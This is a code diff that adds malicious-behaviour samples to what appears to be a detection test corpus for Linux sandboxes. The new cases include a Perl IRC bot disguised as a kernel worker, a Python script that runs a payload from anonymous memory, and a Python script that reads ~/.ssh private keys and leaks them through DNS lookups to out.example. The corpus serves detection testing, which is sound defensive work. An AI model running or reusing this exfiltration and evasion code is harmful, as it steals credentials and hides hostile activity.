@@ -8,6 +8,31 @@ from tools.corpus.detections.node_cases import NODE_BAD
 
 GVISOR_BAD: tuple[Case, ...] = (
     linux(
+        "named-bot.pl",
+        "perl",
+        "use IO::Socket::INET; $0 = '[kworker/0:1]';\n"
+        "my $s = IO::Socket::INET->new(PeerAddr => 'irc.example', PeerPort => 6667) or exit;\n"
+        'print $s "NICK a\\r\\n";\n',
+        "disguised-on-network",
+    ),
+    linux(
+        "unnamed-memory.py",
+        "python",
+        "import os\nf = os.memfd_create('')\nos.write(f, b'#!/bin/sh\\nexit 0\\n')\n"
+        "os.set_inheritable(f, True)\nos.execv(f'/proc/self/fd/{f}', ['x'])\n",
+        "runs-from-memory",
+    ),
+    linux(
+        "keys-by-names.py",
+        "python",
+        "import glob, os, socket\nfor path in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
+        "    text = open(path, 'rb').read().hex()\n"
+        "    for at in range(0, min(len(text), 480), 48):\n"
+        "        try:\n            socket.gethostbyname(text[at:at + 48] + f'.{at}.out.example')\n"
+        "        except OSError:\n            pass\n",
+        "tells-credentials-by-names",
+    ),
+    linux(
         "dropper.sh",
         "sh",
         "#!/bin/sh\nprintf '#!/bin/sh\\necho x\\n' > /tmp/payload\nchmod +x /tmp/payload\n"
